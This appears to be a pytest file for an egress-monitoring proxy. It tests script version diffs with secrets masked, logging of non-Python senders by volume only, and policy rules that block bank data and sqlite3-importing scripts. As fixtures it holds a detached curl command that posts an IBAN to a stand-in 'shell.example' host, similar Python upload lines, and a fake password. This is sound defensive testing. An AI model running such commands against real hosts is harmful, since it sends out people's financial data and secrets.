"""Scripts over time: versions, what changed, what is kept of them; and programs that are not
Python.
"""

import subprocess
import sys
from typing import Any

import pytest

from tests.scenarios.conftest import Outgate

SEND = (
    "import urllib.request as u; u.urlopen('https://files.example/', data=b'x',"
    " timeout=30).read()\n"
)
SECRET = "Zk4" + "-qP8vLmT2xW9n"


def test_a_changed_script_is_a_new_version_with_a_diff(serving: Outgate) -> None:
    """Two versions of a script are listed with their times; the diff shows the change with its
    secrets masked.
    """
    script = serving.script("report.py", "# first version\n" + SEND)
    _run(serving, script)
    script.write_text(f"# second version\nPASSWORD = '{SECRET}'\n" + SEND)
    _run(serving, script)

    serving.wait_for(lambda: serving("scripts", str(script)).stdout.count("report.py") == 2)
    done = serving.wait_for(
        lambda: (d := serving("scripts", "--diff", str(script))).returncode == 0 and d
    )
    assert "-# first version" in done.stdout
    assert "+# second version" in done.stdout
    assert "PASSWORD" in done.stdout
    assert SECRET not in done.stdout
    kept = b"".join(p.read_bytes() for p in (serving.home / "scripts").rglob("*.zst"))
    import zstandard

    assert kept
    for path in (serving.home / "scripts").rglob("*.zst"):
        assert SECRET.encode() not in zstandard.ZstdDecompressor().decompress(path.read_bytes())


def test_what_is_not_python_is_volume_only(serving: Outgate) -> None:
    """A program that descends from no Python is recorded with where and how much, and nothing of
    what it sent.
    """
    import shutil

    if shutil.which("curl") is None or shutil.which("setsid") is None:
        pytest.skip("curl is not installed")
    command = [
        "setsid",
        "-f",
        "curl",
        "-s",
        "-d",
        "iban DE90871318609139099603",
        "https://shell.example/secret/path",
    ]
    subprocess.run(command, env=serving.behind(), timeout=60, check=True)

    def mine() -> list[dict[str, Any]]:
        return [r for r in serving.records() if r["destination"]["host"] == "shell.example"]

    [record] = serving.wait_for(mine)
    if record["sender"]["is_python"] is not False:
        pytest.skip("its parent is Python here")
    assert [f["kind"] for f in record["findings"]] == ["not_inspected"]
    assert "not Python" in record["findings"][0]["note"]
    assert record["destination"]["path"] == "/"
    assert record["request"]["bytes"] == 27


def _run(outgate: Outgate, script: Any) -> None:
    subprocess.run(
        [sys.executable, str(script)],
        env=outgate.behind(),
        timeout=60,
        check=True,
        capture_output=True,
    )


IMPORTS = """
version: 1
mode: enforce
rules:
  - id: no-database-tools
    description: Scripts that read databases send nothing out
    when:
      script: {imports: [sqlite3]}
    then: block
  - id: no-bank-data
    description: Bank data stays here
    when:
      findings: {kinds: bank}
    then: block
"""
FLAGGED = """
import urllib.request, urllib.error
for body in (b'iban DE90871318609139099603', b'hello',):
    try:
        print(urllib.request.urlopen('https://files.example/', data=body, timeout=30).status)
    except urllib.error.HTTPError as error:
        print(error.code)
"""


def test_a_flagged_script_is_kept_and_its_imports_count_from_its_first_request(
    outgate: Outgate,
) -> None:
    """A script whose first request is refused has its source kept and its versions compared; rules
    on imports hold for it.
    """
    (outgate.folder / "p.yaml").write_text(IMPORTS)
    outgate.start("--policy", str(outgate.folder / "p.yaml"))
    script = outgate.script("flagged.py", "# first version\n" + FLAGGED)
    assert _codes(outgate, script) == ["403", "200"]
    script.write_text("# second version\nimport sqlite3\n" + FLAGGED)
    assert _codes(outgate, script) == ["403", "403"]
    script.write_text(
        "# third version\nimport sqlite3\n"
        + FLAGGED.replace("b'iban DE90871318609139099603', ", "")
    )
    assert _codes(outgate, script) == ["403"]

    done = outgate.wait_for(
        lambda: (d := outgate("scripts", "--diff", str(script))).returncode == 0 and d
    )
    assert "-# second version" in done.stdout
    assert "+# third version" in done.stdout


def _codes(outgate: Outgate, script: Any) -> list[str]:
    command = [sys.executable, str(script)]
    done = subprocess.run(
        command, env=outgate.behind(), timeout=60, check=True, capture_output=True, text=True
    )
    return done.stdout.split()
